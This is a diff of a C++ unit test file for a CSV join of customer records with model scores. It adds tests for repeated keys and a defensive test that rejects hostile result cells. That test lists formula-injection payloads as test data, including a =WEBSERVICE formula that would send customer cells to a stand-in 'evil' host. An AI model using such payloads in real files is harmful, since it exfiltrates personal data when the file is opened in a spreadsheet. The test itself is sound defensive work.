@@ -3,7 +3,9 @@
 #include <gtest/gtest.h>
 
 #include <algorithm>
+#include <map>
 #include <random>
+#include <set>
 #include <string>
 #include <vector>
 
@@ -27,7 +29,7 @@ std::string RawCsv(const std::vector<std::string>& keys) {
 }
 
 std::string ResultLine(const std::string& key, size_t i) {
-  return key + ",0." + std::to_string(100 + i % 900) + "," + (i % 2 ? "HIGH" : "LOW") + ",m1\n";
+  return key + ",0." + std::to_string(100 + i % 900) + "," + (i % 2 ? "high" : "low") + ",m1\n";
 }
 
 // Runs the join of `raw` with `results`; returns the output file's content.
@@ -105,13 +107,13 @@ TEST(IntegrateTest, KeepsBomLineEndingsAndQuoting) {
       "\xEF\xBB\xBF"
       "customer_id,note\r\n\"A1\",\"say \"\"hi\"\"\"\r\nB2,x";
   const std::string results =
-      "record_key,score,risk_band,model_version\nB2,0.5,LOW,m1\n"
-      "A1,0.9,HIGH,m1\n";
+      "record_key,score,risk_band,model_version\nB2,0.5,low,m1\n"
+      "A1,0.9,high,m1\n";
   IntegrateReport report;
   EXPECT_EQ(Integrate(dir, raw, results, &report),
             "\xEF\xBB\xBF"
             "customer_id,note,score,risk_band,model_version\r\n"
-            "\"A1\",\"say \"\"hi\"\"\",0.9,HIGH,m1\r\nB2,x,0.5,LOW,m1\r\n");
+            "\"A1\",\"say \"\"hi\"\"\",0.9,high,m1\r\nB2,x,0.5,low,m1\r\n");
   EXPECT_EQ(report.matched_rows, 2u);
 }
 
@@ -122,7 +124,7 @@ TEST(IntegrateTest, BadInputLeavesNoOutput) {
   IntegrateJob job;
   job.raw_input = dir.File("raw.csv");
   job.output = dir.File("merged.csv");
-  job.results_csv = "record_key,score,risk_band,model_version\nA,1,LOW,m1\n";
+  job.results_csv = "record_key,score,risk_band,model_version\nA,1,low,m1\n";
   IntegrateReport report;
   std::string err;
   WriteFile(job.raw_input, "customer_id,score\nA,1\n");
@@ -137,6 +139,129 @@ TEST(IntegrateTest, BadInputLeavesNoOutput) {
   EXPECT_FALSE(IntegrateResults(job, &report, &err));
   EXPECT_NE(err.find(job.raw_input + ":6002"), std::string::npos) << err;
   EXPECT_FALSE(FileExists(job.output));
+}
+
+// Issue: with the raw file in batch order, the cursor shortcut gave two raw rows of a repeated
+// key the first and the second of its results; in any other order both got the last one. The rule
+// on every path: the last result in batch order, for every raw row of the key.
+TEST(IntegrateTest, RepeatedKeyInBatchOrderGetsItsLastResultOnEveryRow) {
+  ScopedTempDir dir;
+  const std::string results =
+      "record_key,score,risk_band,model_version\n"
+      "A,0.1,low,m1\nB,0.5,medium,m1\nA,0.9,high,m1\nC,0.2,low,m1\n";
+  IntegrateReport report;
+  EXPECT_EQ(Integrate(dir, "customer_id,x\nA,1\nB,2\nA,3\nC,4\n", results, &report),
+            "customer_id,x,score,risk_band,model_version\n"
+            "A,1,0.9,high,m1\nB,2,0.5,medium,m1\nA,3,0.9,high,m1\nC,4,0.2,low,m1\n");
+  EXPECT_EQ(report.matched_rows, 4u);
+  EXPECT_EQ(report.keys_with_several_results, 1u);
+  EXPECT_EQ(report.disagreeing_keys, 1u);
+}
+
+// Property: for random result sets with repeated keys (some agreeing, some not), any permutation
+// of the raw rows, with unknown keys inserted and rows deleted, gives every raw row exactly the
+// result the key-index rule gives (the last result of its key in batch order), and the summary
+// counts the repeated and the disagreeing keys.
+TEST(IntegrateTest, EveryRowGetsItsKeysLastResultUnderAnyOrder) {
+  ScopedTempDir dir;
+  for (uint32_t seed = 1; seed <= 12; ++seed) {
+    std::mt19937 rng(seed);
+    const size_t distinct = 300 + rng() % 5000;  // one batch or several
+    std::vector<std::string> batch;              // keys in batch (upload) order
+    for (size_t i = 0; i < distinct; ++i) {
+      batch.push_back("K" + std::to_string(i));
+      if (rng() % 50 == 0) batch.push_back("K" + std::to_string(i));                // right after
+      if (rng() % 60 == 0) batch.push_back("K" + std::to_string(rng() % (i + 1)));  // later
+    }
+    std::string results = "record_key,score,risk_band,model_version\n";
+    std::map<std::string, std::string> last, first;
+    std::map<std::string, int> count;
+    std::set<std::string> disagree;
+    for (size_t i = 0; i < batch.size(); ++i) {
+      const std::string& k = batch[i];
+      // Half of the repeats carry the same result, half another one.
+      const bool same = count[k] > 0 && std::hash<std::string>()(k) % 2 == 0;
+      const std::string cells = same ? first[k] : ResultLine(k, rng() % 1000).substr(k.size());
+      results += k + cells;
+      if (count[k]++ == 0) first[k] = cells;
+      const auto fields = [](const std::string& c) { return c.substr(0, c.rfind(',')); };
+      if (fields(cells) != fields(first[k])) disagree.insert(k);
+      last[k] = cells;
+    }
+    size_t repeated = 0;
+    for (const auto& [k, n] : count) repeated += n > 1;
+
+    for (int variant = 0; variant < 3; ++variant) {
+      std::vector<std::string> raw = batch;  // variant 0: the raw file in batch order
+      if (variant >= 1) std::shuffle(raw.begin(), raw.end(), rng);
+      if (variant == 2) {
+        for (size_t i = 0; i < raw.size() / 20; ++i) raw.erase(raw.begin() + rng() % raw.size());
+        for (size_t i = 0; i < 40; ++i) {
+          raw.insert(raw.begin() + rng() % raw.size(), "U" + std::to_string(i));
+        }
+      }
+      std::string raw_csv = "customer_id,n\n",
+                  expected = "customer_id,n,score,risk_band,model_version\n";
+      uint64_t matched = 0;
+      for (size_t i = 0; i < raw.size(); ++i) {
+        raw_csv += raw[i] + "," + std::to_string(i) + "\n";
+        const auto it = last.find(raw[i]);
+        expected += raw[i] + "," + std::to_string(i) + (it == last.end() ? ",,,\n" : it->second);
+        matched += it != last.end();
+      }
+      IntegrateReport report;
+      ASSERT_EQ(Integrate(dir, raw_csv, results, &report), expected)
+          << "seed " << seed << " variant " << variant;
+      EXPECT_EQ(report.matched_rows, matched);
+      EXPECT_EQ(report.keys_with_several_results, repeated);
+      EXPECT_EQ(report.disagreeing_keys, disagree.size());
+    }
+  }
+}
+
+// A hostile server's result cells never reach the merged file (which holds raw PII and is opened
+// in spreadsheets): a formula, a line break, an out-of-range or non-numeric score, an unknown band,
+// a version outside its charset are refused as a whole, naming the results line, with no output.
+TEST(IntegrateTest, HostileResultCellsAreRefusedAndNothingIsWritten) {
+  ScopedTempDir dir;
+  IntegrateJob job;
+  job.raw_input = dir.File("raw.csv");
+  job.output = dir.File("merged.csv");
+  WriteFile(job.raw_input, "customer_id,name\nA,Alice\nB,Bob\n");
+  const std::vector<std::pair<std::string, std::string>> attacks = {
+      {"B,\"=WEBSERVICE(\"\"https://evil/?\"\"&A2&B2)\",low,m1",
+       "score '=WEBSERVICE(\"https://evil/?\"&A2&B2)'"},
+      {"B,0.5,=1+1,m1", "risk_band '=1+1'"},
+      {"B,0.5,low,@SUM(A1)", "model_version '@SUM(A1)'"},
+      {"B,0.5,low,-2+3", "model_version '-2+3'"},
+      {"B,\"0.5\nx\",low,m1", "score '0.5?x'"},
+      {"B,1.5,low,m1", "score '1.5'"},
+      {"B,-0,low,m1", "score '-0'"},
+      {"B,nan,low,m1", "score 'nan'"},
+      {"B,0x1p-2,low,m1", "score '0x1p-2'"},
+      {"B, 0.5,low,m1", "score ' 0.5'"},
+      {"B,0.5,HIGH,m1", "risk_band 'HIGH'"},
+      {"B,0.5,low,\"m1\tx\"", "model_version 'm1?x'"},
+      {"B,0.5,low,", "model_version ''"},
+  };
+  for (const auto& [line, shown] : attacks) {
+    job.results_csv = "record_key,score,risk_band,model_version\nA,0.25,low,m1\n" + line + "\n";
+    IntegrateReport report;
+    std::string err;
+    EXPECT_FALSE(IntegrateResults(job, &report, &err)) << line;
+    EXPECT_EQ(err.rfind("results: line 3: " + shown, 0), 0u) << err;
+    EXPECT_NE(err.find("; fix: "), std::string::npos) << err;
+    EXPECT_FALSE(FileExists(job.output)) << line;
+  }
+  // The shapes the server does produce are accepted.
+  job.results_csv =
+      "record_key,score,risk_band,model_version\nA,0,low,demo_v1\nB,3e-05,high,v2.1:rc-1\n";
+  IntegrateReport report;
+  std::string err;
+  EXPECT_TRUE(IntegrateResults(job, &report, &err)) << err;
+  EXPECT_EQ(ReadFile(job.output),
+            "customer_id,name,score,risk_band,model_version\nA,Alice,0,low,demo_v1\n"
+            "B,Bob,3e-05,high,v2.1:rc-1\n");
 }
 
 // Which key columns can be joined on once tokenized: HASH and FPE are re-derived from the raw
